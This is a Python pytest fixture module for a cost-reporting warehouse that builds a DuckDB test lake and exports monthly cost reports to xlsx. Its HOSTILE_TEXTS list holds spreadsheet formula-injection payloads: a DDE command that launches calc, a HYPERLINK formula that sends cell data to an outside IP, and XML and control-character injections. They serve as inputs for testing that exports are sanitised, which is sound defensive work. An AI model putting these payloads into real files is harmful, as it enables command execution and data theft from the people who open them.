"""A lake of two companies whose organizations and accounts have equal names."""

from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from tests.published import Row, cost, fill, lake_in, organization
from warehouse.extracts.costs import MONTHLY
from warehouse.extracts.extract import Extract
from warehouse.extracts.question import ask
from warehouse.extracts.reading import Published, Request, read
from warehouse.extracts.report import Report
from warehouse.layout import Holder

PUBLISHED = Published(7, datetime(2026, 10, 4, 6, 30, tzinfo=UTC))

HOSTILE_TEXTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001
    '=HYPERLINK("http://198.51.100.1/?"&A1,"more")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "http://198.51.100.1/",
    "mailto:nobody@example.test",
    "internal:About!A1",
    "{=1+1}",
    "<r></is></c><c><f>1+1</f></c><c><is></r>",
    "<r><t>bold</t></r>",
    "<f>1+1</f>",
    "_x0041_",
    "bell\x07 escape\x1b[31m nul-free",
    "no character \ufffe\uffff",
    'quote " comma , semicolon ; tab \t newline \n end',
    "right to left \u202e evil",
    "  blanks around  ",
    "0012",
    "1e5",
    "true",
    "서비스 이름 🙂",
    "long " * 2_000,
)


def costs_of_everyone() -> list[Row]:
    """Rows whose sums are known; the neighbours' money is of another size."""
    b, y = {"organization_id": "org-b"}, {"organization_id": "org-c", "company_id": "co-y"}
    unassigned = {"organization_id": "unassigned"}
    money = "billed_cost", "contracted_cost", "list_cost"
    return [
        cost(
            "100.123456789012",
            **dict(zip(money, map(Decimal, ("70.5", "120", "150.000000000001")), strict=True)),
            previous_month_effective_cost=Decimal(80),
            effective_cost_change=Decimal("20.123456789012"),
            organization_share_ratio=0.98,
        ),
        cost("-10.005", service_name="Refund", charge_category="Credit", sub_account_name=None),
        cost("0.000000000003", service_name="Amazon S3", sub_account_id="000000000001"),
        cost("0", service_name="Gone", previous_month_effective_cost=Decimal(5)),
        cost("12345", service_name="Amazon RDS", billing_currency="KRW"),
        cost("1.2345", service_name="Amazon RDS", billing_currency="BHD"),
        cost("55", billing_period="2026-08"),
        cost("777777", **b),
        cost("888888", **y),
        cost("400", **unassigned),
        cost("999999", **unassigned, company_id="co-y"),
        cost("123456789012345678.12", organization_id="org-huge"),
        cost("-0.12", organization_id="org-huge", service_name="small"),
        *(
            cost("1", organization_id="org-evil", service_name=text, sub_account_name=text)
            for text in HOSTILE_TEXTS
        ),
        cost("-3", organization_id="org-evil", service_name="negative"),
        *(
            cost(
                effective,
                organization_id="org-won",
                billing_currency=currency,
                reporting_currency="KRW",
                exchange_rate=Decimal(rate),
                billed_reporting_cost=Decimal(effective) * Decimal(rate),
                effective_reporting_cost=Decimal(effective) * Decimal(rate),
            )
            for effective, currency, rate in (("100", "USD", "1350.5"), ("100000", "KRW", "1"))
        ),
    ]


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Iterator[duckdb.DuckDBPyConnection]:
    """The lake, opened as readers open it."""
    names = [
        organization("결제 플랫폼"),
        organization("결제 플랫폼", organization_id="org-b"),
        organization("결제 플랫폼", organization_id="org-c", company_id="co-y"),
        organization("=1+1", organization_id="org-evil"),
        organization("Unassigned", organization_id="unassigned"),
        organization("Unassigned", organization_id="unassigned", company_id="co-y"),
    ]
    accounts: list[Row] = [
        {
            "organization_id": each,
            "company_id": company,
            "account_id": "012345678901",
            "account_name": f"registered by {each}",
        }
        for company, each in (("co-x", "org-a"), ("co-x", "org-b"), ("co-y", "org-c"))
    ]
    # An account that two providers spell alike must not count its costs twice.
    accounts.append({**accounts[0], "provider": "other"})
    address = lake_in(tmp_path_factory.mktemp("lake"))
    snapshot_id = fill(
        address,
        {
            "fct_monthly_costs": costs_of_everyone(),
            "dim_organizations": names,
            "dim_accounts": accounts,
        },
    )
    with address.connect(snapshot_id) as connection:
        yield connection


@pytest.fixture
def target(tmp_path: Path) -> Path:
    """A file to write, with a Korean name."""
    return tmp_path / "월간 비용.xlsx"


def report_of(
    lake: duckdb.DuckDBPyConnection,
    organization_id: str = "org-a",
    company_id: str = "co-x",
    period: str | None = "2026-09",
    *,
    extract: Extract = MONTHLY,
    where: Sequence[str] = (),
    sort: Sequence[str] = (),
    columns: Sequence[str] = (),
) -> Report:
    """Return a report, ready to be written."""
    question = ask(extract, where, sort, columns)
    holder = Holder(company_id, organization_id)
    return read(lake, Request(extract, holder, question, period), PUBLISHED)
